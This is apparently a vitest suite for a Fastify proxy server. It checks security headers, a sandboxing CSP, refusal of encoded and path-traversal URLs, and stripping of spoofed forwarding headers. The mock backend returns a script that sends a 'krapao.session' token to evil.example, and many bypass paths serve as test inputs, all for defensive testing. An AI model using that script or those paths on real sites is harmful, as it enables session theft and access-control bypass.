import { once } from 'node:events';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { request, type IncomingHttpHeaders, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import fastify, { type FastifyInstance } from 'fastify';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { defaultConfig } from '../config.shared.ts';
import { buildWebServer } from './app.ts';

const dist = mkdtempSync(join(tmpdir(), 'krapao-dist-'));
const upstream = fastify();
const running: FastifyInstance[] = [];
let address = '';
let calls = 0;
/** Headers of the last call that the backend got. */
let heard: IncomingHttpHeaders = {};
/** Called with the first part of a body. */
let onBody: ((part: Buffer) => void) | undefined;

beforeAll(async () => {
  mkdirSync(join(dist, 'assets'));
  writeFileSync(join(dist, 'index.html'), '<html lang="th"><head></head><body>the app</body></html>');
  upstream.addHook('onRequest', async ({ headers, raw }) => {
    calls += 1;
    heard = headers;
    if (onBody) raw.once('data', onBody);
    onBody = undefined;
  });
  upstream.all('/*', (request, reply) =>
    reply
      .headers({
        'content-type': request.url.endsWith('.svg') ? 'image/svg+xml' : 'text/html',
        'content-security-policy': "script-src 'unsafe-inline'",
        'cross-origin-opener-policy': 'unsafe-none',
        'referrer-policy': 'unsafe-url',
        server: 'Operator/1.2.3',
        'x-powered-by': 'Express',
        'service-worker-allowed': '/',
        'alt-svc': 'h3=":443"',
        nel: '{"report_to":"cdn","max_age":604800}',
        'report-to': '{"group":"cdn","max_age":604800,"endpoints":[{"url":"https://cdn.example/"}]}',
        'reporting-endpoints': 'default="https://cdn.example/"',
        'clear-site-data': '"*"',
        'www-authenticate': 'Basic realm="operator"',
        connection: 'Upgrade, Keep-Alive',
        'keep-alive': 'timeout=1',
        upgrade: 'h2,h2c',
        etag: '"kept"',
        ...(request.url.includes('kept') && { 'cache-control': 'public, max-age=60' }),
      })
      .send('<script>fetch("//evil.example/?" + localStorage.getItem("krapao.session"))</script>'),
  );
  address = await upstream.listen({ host: '127.0.0.1', port: 0 });
});

afterEach(() => Promise.all(running.splice(0).map((app) => app.close())));
afterAll(async () => {
  await upstream.close();
  rmSync(dist, { recursive: true });
});

const ask = async (url: string, headers: Record<string, string> = {}, mock = false) => {
  const app = await buildWebServer({ dist, upstream: address, mock, config: defaultConfig });
  return app.inject({ url, headers });
};

/** The app's server on a port of its own, and how often it has called the backend since. */
async function listening() {
  const app = await buildWebServer({ dist, upstream: address, mock: false, config: defaultConfig });
  running.push(app);
  await app.listen({ host: '127.0.0.1', port: 0 });
  const before = calls;
  return { app, asked: () => calls - before };
}

/** Requests an address exactly as written; `inject` and `fetch` would normalise it. */
async function askRaw(app: FastifyInstance, path: string, headers: Record<string, string> = {}) {
  const { port } = app.server.address() as AddressInfo;
  const call = request({ host: '127.0.0.1', port, path, headers: { accept: 'text/html', ...headers } }).end();
  const [answer] = (await once(call, 'response')) as [IncomingMessage];
  return { status: answer.statusCode, headers: answer.headers, body: await text(answer) };
}

describe('a file that a backend stores and this origin serves', () => {
  it.each(['/media/banner.html', '/media/logo.svg', '/api/wallet', '/socket.io/?EIO=4'])(
    'runs no script when it is opened by itself: %s',
    async (url) => {
      const { headers } = await ask(url);
      expect(headers['content-security-policy']).toBe(
        "sandbox; default-src 'none'; img-src 'self'; media-src 'self'; frame-ancestors 'none'",
      );
      expect(headers).toMatchObject({
        'x-content-type-options': 'nosniff',
        'strict-transport-security': expect.stringMatching(/^max-age=\d{8}/),
        'referrer-policy': 'no-referrer',
        etag: '"kept"',
      });
      // Together with a sandbox, browsers treat it as a network error.
      expect(headers['cross-origin-opener-policy']).toBeUndefined();
      for (const name of ['server', 'x-powered-by', 'service-worker-allowed'])
        expect(headers[name]).toBeUndefined();
    },
  );

  it.each(['script', 'serviceworker', 'worker'])('is never run as a %s of the page', async (destination) => {
    const asked = { 'sec-fetch-dest': destination, 'sec-fetch-site': 'same-origin' };
    expect((await ask('/media/logo.js', asked)).statusCode).toBe(403);
    expect((await ask('/api/chat/file.js', asked)).statusCode).toBe(403);
    // The page does load the simulator's own script.
    expect((await ask('/__mock/page.js', asked, true)).statusCode).toBe(200);
  });

  it('keeps the policy that a simulator sets for its game pages', async () => {
    const { headers } = await ask('/games/pg', {}, true);
    expect(headers['content-security-policy']).toBe("script-src 'unsafe-inline'");
    expect(headers['strict-transport-security']).toBeDefined();
    expect(headers['x-powered-by']).toBeUndefined();
  });
});

describe('an address that changes its meaning when it is decoded', () => {
  it.each([
    '/%6dedia/banner.html',
    '/medi%61/banner.html',
    '/%61pi/bonus/clear',
    '/%73ocket.io/?EIO=4',
    '/media#/banner.html',
    'http://app.example/media/banner.html',
    '/media/../api/bonus/clear',
    '/media/..;/api/bonus/clear',
    '/media/..;a=b/api/bonus/clear',
    '/media/%2e%2e;/api/bonus/clear',
    '/media/..%3b/api/bonus/clear',
    '/media/.%2E/api/bonus/clear',
    '/media/..%2fapi/bonus/clear',
    '/media/..%5Capi/bonus/clear',
    '/api/bonus/..',
  ])('is refused: %s', async (url) => {
    const { app, asked } = await listening();
    const answer = await askRaw(app, url);
    expect(answer.status).toBe(400);
    expect(answer.body).toBe('{"statusCode":400,"message":"HTTP 400"}');
    expect(answer.headers['content-security-policy']).toContain("default-src 'none'");
    expect(asked()).toBe(0);
  });

  it.each([
    '//media/banner.html',
    '/./media/banner.html',
    '/x/../media/banner.html',
    '/MEDIA/banner.html',
    '/media;a=b/banner.html',
    '/media%2fbanner.html',
    '/%256dedia/banner.html',
    '/%2561pi/bonus/clear',
  ])('is not passed on: %s', async (url) => {
    const { app, asked } = await listening();
    const answer = await askRaw(app, url);
    expect(answer.body).not.toContain('evil.example');
    expect(answer.headers['content-security-policy']).toContain("script-src 'self'");
    expect(asked()).toBe(0);
  });

  it('reaches neither a simulator’s pages nor their policy', async () => {
    for (const url of ['/%67ames/pg', '/%5F_mock/worlds', '/%64ocs'])
      expect((await ask(url, {}, true)).statusCode).toBe(400);
  });

  it('opens no socket', async () => {
    const { app, asked } = await listening();
    const upgrade = {
      connection: 'upgrade',
      upgrade: 'websocket',
      'sec-websocket-version': '13',
      'sec-websocket-key': 'AAAAAAAAAAAAAAAAAAAAAA==',
    };
    const answer = await askRaw(app, '/%73ocket.io/?EIO=4&transport=websocket', upgrade);
    expect(answer.status).toBe(400);
    expect(asked()).toBe(0);
  });

  it.each([
    '/media/%E0%B8%81%20a.svg',
    '/media/a;b=c/banner%2fx.svg',
    '/media//x.svg',
    '/api/promotion/find/A%2FB?next=/../x',
  ])('is passed on if only the part after its prefix is encoded: %s', async (url) => {
    const { app, asked } = await listening();
    const answer = await askRaw(app, url);
    expect(answer.status).toBe(200);
    expect(answer.headers['content-security-policy']).toMatch(/^sandbox;/);
    expect(asked()).toBe(1);
  });
});

describe('the body of a call', () => {
  it.each(['image/png', 'text/plain', 'application/json'])(
    'is streamed to the backend unchanged before all of it has arrived: %s',
    async (type) => {
      const came = new Promise<Buffer>((resolve) => (onBody = resolve));
      const { app } = await listening();
      const { port } = app.server.address() as AddressInfo;
      const headers = { 'content-type': type, 'content-length': '1000' };
      const call = request({ host: '127.0.0.1', port, path: '/api/wallet/slip', method: 'POST', headers });
      call.on('error', () => undefined).write(Buffer.of(0xff, 0xfe, 0x41));
      expect(await came).toEqual(Buffer.of(0xff, 0xfe, 0x41));
      call.destroy();
    },
  );
});

describe('a header about the backend’s own connections, or by which a browser would empty the storage or ask for a password', () => {
  it.each(['/api/wallet', '/media/logo.svg'])('is not passed on: %s', async (path) => {
    const { app } = await listening();
    const { headers } = await askRaw(app, path);
    const named = 'alt-svc nel report-to reporting-endpoints upgrade clear-site-data www-authenticate';
    for (const name of named.split(' ')) expect(headers[name]).toBeUndefined();
    expect(headers).toMatchObject({ connection: 'keep-alive', 'keep-alive': 'timeout=72' });
  });
});

describe('answers of the API', () => {
  it('are cached nowhere unless the backend allows it', async () => {
    expect((await ask('/api/wallet')).headers['cache-control']).toBe('no-store');
    expect((await ask('/api/kept')).headers['cache-control']).toBe('public, max-age=60');
    expect((await ask('/media/logo.svg')).headers['cache-control']).toBeUndefined();
  });

  it('are refused to other sites, as some GETs change things', async () => {
    expect((await ask('/api/bonus/clear', { 'sec-fetch-site': 'cross-site' })).statusCode).toBe(403);
    for (const site of ['same-origin', 'none'])
      expect((await ask('/api/wallet', { 'sec-fetch-site': site })).statusCode).toBe(200);
  });
});

describe('a header of a call', () => {
  it('about its origin is replaced by what this server has seen itself', async () => {
    const others =
      'x-real-ip client-ip true-client-ip x-remote-ip cf-connecting-ipv6 x-azure-clientip remote-addr forwarded ' +
      'forwarded-for x-forwarded x-forwarded-port x-original-forwarded-for x-original-url x-rewrite-url';
    const said: Record<string, string> = { 'x-forwarded-proto': 'https', 'x-forwarded-for': '1.2.3.4' };
    for (const name of others.split(' ')) said[name] = '1.2.3.4';
    const passed = () => Object.keys(heard).filter((name) => name in said);
    await ask('/api/wallet', { ...said, 'x-membership': 'kept' });
    expect(heard).toMatchObject({ 'x-membership': 'kept', 'x-forwarded-for': '127.0.0.1' });
    expect(passed()).toEqual(['x-forwarded-for']);
  });

  it.each([
    // The name that a proxy says beside `Host` is said once: many a backend takes all that is there for one name.
    [1, '203.0.113.7, 127.0.0.1', 'app.example'],
    [2, '1.2.3.4, 203.0.113.7, 127.0.0.1', 'evil.example, app.example'],
  ])('is believed as far as %i proxies in front have written it', async (trustProxy, addresses, hosts) => {
    const options = { dist, upstream: address, mock: false, config: defaultConfig };
    const app = await buildWebServer({ ...options, trustProxy });
    const said = {
      host: 'app.example',
      'x-forwarded-proto': 'https',
      'x-forwarded-for': '192.0.2.1, 1.2.3.4,203.0.113.7',
      'x-forwarded-host': 'evil.example, app.example',
      'x-real-ip': '1.2.3.4',
    };
    await app.inject({ url: '/api/wallet', headers: said });
    expect(heard).toMatchObject({ 'x-forwarded-proto': 'https', 'x-forwarded-for': addresses });
    expect([heard['x-forwarded-host'], heard['x-real-ip']]).toEqual([hosts, undefined]);
  });

  it.each(['x_forwarded_for', 'x-forwarded_for', 'x_real_ip', 'x_forwarded_proto', 'x_forwarded_host'])(
    'is not passed on in a spelling that a backend would take for the same: %s',
    async (name) => {
      await ask('/api/wallet', { [name]: '1.2.3.4', x_own: 'kept' });
      expect(heard[name]).toBeUndefined();
      expect(heard).toMatchObject({ x_own: 'kept', 'x-forwarded-for': '127.0.0.1' });
    },
  );

  it.each(['/api/wallet', '/media/logo.svg', '/health', '/login'])(
    'that asks for another protocol is ignored: %s',
    async (path) => {
      const { app } = await listening();
      const answer = await askRaw(app, path, { connection: 'upgrade', upgrade: 'h2c' });
      expect(answer.status).toBe(200);
    },
  );

  it.each([
    ['expect', '100-continue'],
    ['keep-alive', '300'],
    ['upgrade', 'h2c'],
    ['te', 'trailers'],
    ['proxy-connection', 'keep-alive'],
  ])('that is for this server only is not passed on, and the call is: %s', async (name, value) => {
    const { app } = await listening();
    expect((await askRaw(app, '/api/wallet', { [name]: value })).status).toBe(200);
    expect(heard[name]).toBeUndefined();
  });
});
